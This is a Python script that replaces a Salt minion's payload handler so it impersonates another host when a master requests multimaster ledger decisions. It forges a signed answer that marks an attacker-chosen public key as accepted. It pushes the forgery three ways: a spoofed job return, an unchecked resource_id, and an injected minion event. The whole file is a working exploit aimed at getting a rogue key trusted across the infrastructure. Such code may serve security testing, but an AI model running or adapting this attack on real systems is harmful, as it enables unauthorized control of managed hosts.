"""
A minion that answers in the name of a master's host whenever a master asks that host for decisions.

Started in place of a host's minion, with its configuration; it is as well informed as can be: the
answer is what a master's would be, but that it accepts a key, and is signed with the minion's own.
"""

import argparse
import contextlib
import pathlib
import sys
import time

import salt.cli.daemons
import salt.exceptions
import salt.minion

parser = argparse.ArgumentParser()
for name in ("config", "core", "wanted", "pub"):
    parser.add_argument(f"--{name}", required=True)
options = parser.parse_args()
sys.path.insert(0, options.core)

import multimaster_keypair  # noqa: E402
import multimaster_ledger  # noqa: E402


def forged(minion, victim, arguments):
    """Return an answer of the victim's that brings the acceptance of the key that is wanted."""
    asker, nonce, epoch, place, _ = arguments
    accepted = multimaster_ledger.Decision(
        id=options.wanted,
        fingerprint=multimaster_keypair.fingerprint(options.pub),
        verdict="accepted",
        stamp=multimaster_ledger.Stamp(int(time.time() * 1000), 0),
        origin=victim,
        pub=options.pub,
    )
    answer = {
        "origin": victim,
        "asker": asker,
        "epoch": epoch,
        "place": place + 1,
        "end": place + 1,
        "digest": "0" * 64,
        "decisions": multimaster_ledger.pack([accepted]),
    }
    pem = pathlib.Path(minion.opts["pki_dir"], "minion.pem").read_text()
    signature = multimaster_keypair.sign_answer(answer, nonce, pem)
    return {"answer": answer, "signature": signature}


async def interfere(minion, payload):
    """Answer a question that is meant for a master's host, in every way that there is."""
    load = payload["load"]
    if load.get("fun") != "multimaster.ledger_pull":
        return
    victim, me = load["tgt"][0], {"id": minion.opts["id"], "tok": minion.tok}
    told = {key: load[key] for key in ("jid", "fun")} | {"retcode": 0, "success": True}
    told["return"] = forged(minion, victim, load["arg"])
    event = {"tag": f"salt/job/{load['jid']}/ret/{victim}", "data": {**told, "id": victim}}
    for attack in (
        {**me, **told, "cmd": "_return", "id": victim},
        # Meant for what Salt 3008 calls resources; whose they are is not checked.
        {**me, **told, "cmd": "_return", "resource_id": victim},
        {**me, "cmd": "_minion_event", "events": [event]},
    ):
        with contextlib.suppress(salt.exceptions.SaltException):
            await minion._send_req_async_main(attack, timeout=5)


salt.minion.Minion._handle_payload = interfere
sys.argv = ["salt-minion", "--daemon", "--config-dir", options.config]
salt.cli.daemons.Minion().start()
